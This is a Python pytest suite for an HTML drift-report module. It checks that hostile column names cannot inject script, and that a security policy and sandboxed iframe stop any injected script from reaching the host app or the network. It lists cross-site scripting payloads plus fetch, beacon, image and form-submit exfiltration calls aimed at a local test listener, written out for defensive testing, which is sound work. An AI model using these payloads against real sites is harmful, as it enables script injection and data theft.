"""A hostile column name, value or table never reaches the app, nor the network."""

import http.server
import threading

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lab.core.errors import BadInput
from lab.mlops.drift import compare
from lab.mlops.drift.safe_html import POLICY, frame, guarded, safe_names, safe_text
from tests.needs import browser_path, needs

SCRIPT = "</script><script>top.document.title='owned';document.title='owned'</script>"
PAYLOADS = [
    SCRIPT,
    "<img src=x onerror=\"top.document.title='owned'\">",
    "\"><svg/onload=top.document.title='owned'>",
    "';top.document.title='owned';//",
    "`${top.document.title='owned'}`",
    "\\u003c/script>",
    "<!--<script>",
]


def hostile_report():
    rng = np.random.default_rng(0)

    def window(shift):
        return pd.DataFrame(
            {name: rng.normal(shift, 1, 60) for name in PAYLOADS}
            | {"category": rng.choice(PAYLOADS, 60), "plain": rng.normal(size=60)}
        )

    return compare(window(0), window(2))


@given(st.text())
def test_safe_text_holds_no_markup(text):
    assert not set(safe_text(text)) & set("<>&\"'`\\\n\r\x00\u2028\u2029")


@given(st.lists(st.text(), unique=True))
def test_safe_names_stay_apart(names):
    safe = safe_names(names)
    assert list(safe) == names
    assert len(set(safe.values())) == len(names)
    assert all(safe.values())


def test_ordinary_names_stay_as_they_are():
    names = ["units", "temperature_c", "node_load1", "Größe (m²)", "価格"]
    assert safe_names(names) == {name: name for name in names}


def test_a_hostile_report_keeps_names_in_the_verdicts_and_out_of_the_page():
    report = hostile_report()
    assert {verdict.column for verdict in report.verdicts} == {*PAYLOADS, "category", "plain"}
    assert "owned" in report.html  # the words are there ...
    for payload in PAYLOADS:
        assert payload not in report.html  # ... the markup is not
    assert "title='owned'" not in report.html


def test_the_policy_is_the_first_thing_in_the_head():
    page = guarded("<!doctype html><html><HEAD lang='x'><script>1</script></head>")
    assert page.index("<HEAD lang='x'>") + len("<HEAD lang='x'>") == page.index("<meta")
    assert page.index(POLICY) < page.index("<script>")
    with pytest.raises(BadInput, match="no <head>"):
        guarded("<p>no head</p>")


def test_the_frame_is_sandboxed_and_escaped():
    shown = frame('<b title="x">&amp;</b>', height=500)
    assert 'sandbox="allow-scripts allow-downloads"' in shown
    assert "allow-same-origin" not in shown
    assert "height:500px" in shown
    assert 'srcdoc="&lt;b title=&quot;x&quot;&gt;&amp;amp;&lt;/b&gt;"' in shown


class Listener(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []  # noqa: RUF012  # one test uses it

    def do_GET(self):
        self.seen.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_):
        pass


@pytest.fixture
def listener():
    Listener.seen.clear()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def open_as_streamlit_does(page, document, tmp_path):
    """Put a document into a frame with the rights that Streamlit's own frame has."""
    from html import escape

    rights = "allow-forms allow-modals allow-popups allow-same-origin allow-scripts allow-downloads"
    app = tmp_path / "app.html"
    app.write_text(
        "<!doctype html><title>the app</title>"
        f'<iframe sandbox="{rights}" width=1200 height=900 srcdoc="{escape(document)}"></iframe>'
    )
    page.goto(app.as_uri())
    page.wait_for_timeout(2500)


@pytest.fixture
def chromium():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as engine:
        browser = engine.chromium.launch(
            executable_path=browser_path(), args=["--no-sandbox", "--disable-dev-shm-usage"]
        )
        page = browser.new_page()
        page.requests_made = []
        page.on("request", lambda request: page.requests_made.append(request.url))
        yield page
        browser.close()


def outside(page):
    return [
        url
        for url in page.requests_made
        if not url.startswith(("file:", "about:", "data:", "blob:"))
    ]


@needs("browser")
def test_the_report_draws_but_cannot_touch_the_app_or_call_out(chromium, tmp_path):
    open_as_streamlit_does(chromium, frame(hostile_report().html), tmp_path)
    inner = chromium.frames[-1]
    assert chromium.title() == "the app"
    assert "drift" in inner.inner_text("body").lower()
    assert inner.locator("svg").count() > 0
    assert outside(chromium) == []


@needs("browser")
@pytest.mark.parametrize(
    "attack",
    [
        "top.document.title = 'owned'",
        "parent.document.body.innerHTML = 'owned'; top.document.title = 'owned'",
        "fetch('{url}/fetch')",
        "new Image().src = '{url}/image'",
        "navigator.sendBeacon('{url}/beacon', 'x')",
        "document.body.innerHTML = '<link rel=stylesheet href={url}/css><iframe src={url}/frame>'",
        "location = '{url}/location'",
        "top.location = '{url}/top'",
        "open('{url}/open')",
        "document.body.innerHTML = '<form id=f action={url}/form></form>'; f.submit()",
    ],
)
def test_a_script_that_got_in_anyway_gets_nowhere(chromium, listener, tmp_path, attack):
    script = attack.replace("{url}", listener)
    page = guarded(f"<html><head></head><body><script>{script}</script></body></html>")
    open_as_streamlit_does(chromium, frame(page), tmp_path)
    assert chromium.title() == "the app"
    assert Listener.seen == []


@needs("browser")
def test_the_listener_would_hear_an_unguarded_page(chromium, listener, tmp_path):
    """The control: without the guards the same attacks succeed."""
    script = f"<script>top.document.title = 'owned'; fetch('{listener}/fetch')</script>"
    open_as_streamlit_does(chromium, f"<html><head></head><body>{script}</body></html>", tmp_path)
    assert chromium.title() == "owned" or Listener.seen == ["/fetch"]
